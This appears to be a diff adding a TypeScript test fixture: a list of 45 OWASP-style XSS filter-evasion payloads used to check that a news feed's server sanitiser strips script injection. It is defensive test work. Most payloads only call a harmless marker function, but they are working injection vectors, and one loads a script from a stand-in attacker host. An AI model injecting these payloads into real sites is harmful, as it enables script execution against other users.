@@ -1,0 +1,55 @@
+/**
+ * News bodies an attacker might get into the feed: the OWASP XSS filter-evasion kinds (script tags in
+ * case and encoding variants, event handlers, javascript:/data:/vbscript: URLs in every attribute that
+ * takes one, entity- and whitespace-obfuscated schemes, SVG and MathML, style-based attacks, meta
+ * refresh, frames, forms, base, template and mXSS-style nesting). Each payload calls `window.__xss(n)`
+ * (or alert) if it runs; the API test checks what survives the server's sanitiser, the e2e spec
+ * renders every one in Chromium and counts calls.
+ */
+export const XSS_PAYLOADS: readonly string[] = [
+  '<script>window.__xss(1)</script>',
+  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
+  '<ScRiPt>window.__xss(3)</sCrIpT>',
+  '<img src=x onerror="window.__xss(4)">',
+  '<IMG SRC="javascript:window.__xss(5);">',
+  '<IMG SRC=JaVaScRiPt:window.__xss(6)>',
+  '<IMG SRC=`javascript:window.__xss(7)`>',
+  '<IMG """><SCRIPT>window.__xss(8)</SCRIPT>">',
+  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss(9)>',
+  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss(10)>',
+  '<IMG SRC="jav&#x09;ascript:window.__xss(11);">',
+  '<IMG SRC=" &#14;  javascript:window.__xss(12);">',
+  '<a href="javascript:window.__xss(13)">klik</a>',
+  '<a href="JaVaScRiPt&colon;window.__xss(14)">klik</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoMTUpPC9zY3JpcHQ+">klik</a>',
+  '<a href="vbscript:msgbox(16)">klik</a>',
+  '<svg onload="window.__xss(17)"></svg>',
+  '<svg><script>window.__xss(18)</script></svg>',
+  '<svg><a xlink:href="javascript:window.__xss(19)"><text x="20" y="20">klik</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss(20)"></style></mglyph></table></mtext></math>',
+  '<body onload="window.__xss(21)">',
+  '<iframe src="javascript:window.__xss(22)"></iframe>',
+  '<iframe srcdoc="<script>parent.__xss(23)</script>"></iframe>',
+  '<object data="javascript:window.__xss(24)"></object>',
+  '<embed src="data:text/html,<script>parent.__xss(25)</script>">',
+  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(26)">',
+  '<div style="background-image: url(javascript:window.__xss(27))">stil</div>',
+  '<div style="width: expression(window.__xss(28));">stil</div>',
+  '<style>@import "javascript:window.__xss(29)";</style>',
+  '<style>body{background:url("javascript:window.__xss(30)")}</style>',
+  '<link rel="stylesheet" href="javascript:window.__xss(31)">',
+  '<form action="javascript:window.__xss(32)"><button>send</button></form>',
+  '<input autofocus onfocus="window.__xss(33)">',
+  '<details open ontoggle="window.__xss(34)"><summary>x</summary></details>',
+  '<video><source onerror="window.__xss(35)"></video>',
+  '<base href="javascript:window.__xss(36)//"><a href="/x">rel</a>',
+  '<p onmouseover="window.__xss(37)" onclick="window.__xss(37)">hover</p>',
+  '<<SCRIPT>window.__xss(38);//<</SCRIPT>',
+  '<scr<script>ipt>window.__xss(39)</scr</script>ipt>',
+  '<noscript><p title="</noscript><img src=x onerror=window.__xss(40)>"></noscript>',
+  '<template><img src=x onerror="window.__xss(41)"></template>',
+  '<a href="  javascript:window.__xss(42)" title="mellemrum">klik</a>',
+  '<img src="x" onerror&#x3D;"window.__xss(43)">',
+  '<table background="javascript:window.__xss(44)"><tr><td>x</td></tr></table>',
+  '<marquee onstart="window.__xss(45)">x</marquee>',
+];
